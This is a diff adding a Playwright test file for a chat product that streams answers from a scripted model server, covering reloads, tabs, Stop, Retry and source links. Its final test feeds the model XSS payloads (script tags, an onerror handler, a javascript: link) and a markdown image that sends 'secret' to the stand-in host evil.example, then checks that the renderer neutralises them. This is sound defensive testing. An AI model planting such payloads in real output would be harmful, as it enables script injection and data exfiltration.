@@ -1,0 +1,185 @@
+import { type ModelServer, startModelServer } from '~/server/testing/model-server';
+import { answer, ask, composer, messages, stopButton, untilOver } from './chat';
+import { test as base, expect, type RunningServer, signUp, startServer, watchForTrouble } from './fixtures';
+
+/** Stories about answers: the model is a scripted server at the other end of a real connection. */
+const test = base.extend<{ model: ModelServer; product: RunningServer }>({
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures from this pattern.
+  model: async ({}, use) => {
+    const model = await startModelServer();
+    await use(model);
+    await model.close();
+  },
+  product: async ({ model }, use) => {
+    const server = await startServer({
+      AI_BASE_URL: model.baseUrl,
+      AI_API_KEY: 'test',
+      AI_MODEL: 'scripted',
+      AI_API: 'responses',
+    });
+    await use(server);
+    await server.dispose();
+  },
+});
+
+const words = Array.from({ length: 40 }, (_, index) => `word${index + 1} `);
+const wholeText = words.join('').trim();
+
+test('an answer streams, survives a reload in the middle and is there tomorrow', async ({ page, model, product }) => {
+  const trouble = watchForTrouble(page, product);
+  model.queue({ text: words, holdAfter: 15 });
+  await signUp(page, product);
+  await ask(page, 'What moves interest rates?');
+  await expect(answer(page)).toContainText('word15');
+  await expect(stopButton(page)).toBeVisible();
+  await page.reload();
+  // What was there is there again without waiting for the rest.
+  await expect(answer(page)).toContainText('word1 ');
+  await expect(answer(page)).toContainText('word15');
+  await expect(answer(page)).not.toContainText('word16');
+  model.release();
+  await expect(answer(page)).toContainText(wholeText);
+  await untilOver(page);
+  await expect(page.getByRole('button', { name: /^What moves interest rates\?/ })).toBeVisible();
+  await page.goto(`${product.url}/qchat`);
+  await page.getByRole('button', { name: /^What moves interest rates\?/ }).click();
+  await expect(answer(page)).toContainText(wholeText);
+  await expect(messages(page)).toHaveCount(2);
+  expect(model.requests).toHaveLength(1);
+  expect(trouble).toEqual([]);
+});
+
+test('two tabs show the same answer while it is written', async ({ page, context, model, product }) => {
+  model.queue({ text: words, holdAfter: 10 });
+  await signUp(page, product);
+  await ask(page, 'Compare gold and bonds');
+  await expect(answer(page)).toContainText('word10');
+  const second = await context.newPage();
+  await second.goto(page.url());
+  await expect(answer(second)).toContainText('word10');
+  model.release();
+  await expect(answer(second)).toContainText(wholeText);
+  await expect(answer(page)).toContainText(wholeText);
+  // A question in one tab arrives in the other.
+  model.queue({ text: 'Silver too.' });
+  await ask(second, 'And silver?');
+  await expect(page.getByText('And silver?', { exact: true })).toBeVisible();
+  await expect(answer(page)).toContainText('Silver too.');
+});
+
+test('Stop keeps what was written and ends the request to the model', async ({ page, model, product }) => {
+  model.queue({ text: words, holdAfter: 12 });
+  await signUp(page, product);
+  await ask(page, 'Tell me everything');
+  await expect(answer(page)).toContainText('word12');
+  await stopButton(page).click();
+  await untilOver(page);
+  await (await model.request(0)).aborted;
+  await expect(answer(page)).toContainText('word12');
+  await page.reload();
+  await expect(answer(page)).toContainText('word12');
+  await expect(answer(page)).not.toContainText('word13');
+  await expect(answer(page)).toContainText('Stopped');
+});
+
+test('a failed model keeps the question, says what happened and answers on Retry', async ({ page, model, product }) => {
+  model.queue({ fault: { kind: 'status', status: 401 } }, { text: 'Now it works.' });
+  await signUp(page, product);
+  await ask(page, 'Will rates fall?');
+  const retry = answer(page).getByRole('button', { name: 'Retry' });
+  await expect(retry).toBeVisible();
+  await expect(page.getByText('Will rates fall?', { exact: true }).last()).toBeVisible();
+  await retry.click();
+  await expect(answer(page)).toContainText('Now it works.');
+  await expect(retry).toBeHidden();
+  await expect(messages(page)).toHaveCount(2);
+});
+
+test('a server that dies in mid-answer keeps its text, says so and answers on Retry', async ({
+  page,
+  model,
+  product,
+}) => {
+  model.queue({ text: words, holdAfter: 20 }, { text: 'Complete at last.' });
+  await signUp(page, product);
+  await ask(page, 'What about oil?');
+  await expect(answer(page)).toContainText('word20');
+  // The checkpoint follows within a second.
+  await page.waitForTimeout(1500);
+  await product.kill();
+  await product.restart();
+  await page.reload();
+  await expect(answer(page)).toContainText('word20');
+  await expect(answer(page)).toContainText('interrupted');
+  await answer(page).getByRole('button', { name: 'Retry' }).click();
+  await expect(answer(page)).toContainText('Complete at last.');
+  await expect(messages(page)).toHaveCount(2);
+});
+
+test('a page that loses the server shows it and goes on by itself when it is back', async ({
+  page,
+  model,
+  product,
+}) => {
+  await signUp(page, product);
+  model.queue({ text: 'Before.' });
+  await ask(page, 'First question');
+  await expect(answer(page)).toContainText('Before.');
+  await product.kill();
+  await expect(page.getByText(/Reconnecting|offline/i).first()).toBeVisible({ timeout: 20_000 });
+  await composer(page).fill('A question nobody can take');
+  await composer(page).press('Enter');
+  // The words are not lost: in the box, or in the conversation with a way to send them again.
+  await expect(
+    composer(page)
+      .filter({ hasText: 'A question nobody can take' })
+      .or(page.getByText('A question nobody can take'))
+      .first(),
+  ).toBeVisible();
+  await product.restart();
+  await expect(page.getByText(/Reconnecting/i)).toBeHidden({ timeout: 40_000 });
+});
+
+test('sources are numbered, open beside the answer and lead out safely', async ({ page, model, product }) => {
+  const text = 'Rates were cut in March.';
+  model.queue({
+    text,
+    searches: ['web_search'],
+    citations: [{ url: 'https://www.example.org/rates', title: 'Rates in March', start: 0, end: text.length }],
+  });
+  await signUp(page, product);
+  await ask(page, 'When were rates cut?');
+  await untilOver(page);
+  await expect(answer(page).getByText('Live Search(1)')).toBeVisible();
+  await answer(page)
+    .getByRole('button', { name: /source 1|^1$|Rates in March/i })
+    .first()
+    .click();
+  const link = page.getByRole('link', { name: /Rates in March|example\.org/ }).first();
+  await expect(link).toHaveAttribute('href', 'https://www.example.org/rates');
+  await expect(link).toHaveAttribute('rel', /noopener/);
+  await expect(link).toHaveAttribute('target', '_blank');
+});
+
+test('what a model writes is never run, and remote pictures wait for a click', async ({ page, model, product }) => {
+  const trouble = watchForTrouble(page, product);
+  model.queue({
+    text: [
+      '<script>alert(1)</script> <img src=x onerror="alert(2)"> ',
+      '[bad](javascript:alert(3)) [good](https://example.org/page)\n\n',
+      '![chart](https://evil.example/x.png?q=secret)\n\n',
+      '| a | b |\n| - | - |\n| 1 | 2 |\n\n',
+      '```js\nconst rate = 4.25;\n```\n',
+    ],
+  });
+  await signUp(page, product);
+  await ask(page, 'Show me everything');
+  await untilOver(page);
+  await expect(answer(page).getByText('<script>alert(1)</script>')).toBeVisible();
+  await expect(answer(page).getByRole('link', { name: 'good' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+  await expect(answer(page).getByRole('link', { name: 'bad' })).toHaveCount(0);
+  await expect(answer(page).getByRole('table')).toBeVisible();
+  await expect(answer(page).getByText('const rate = 4.25;')).toBeVisible();
+  await expect(answer(page).getByRole('button', { name: /evil\.example/ })).toBeVisible();
+  expect(trouble).toEqual([]);
+});
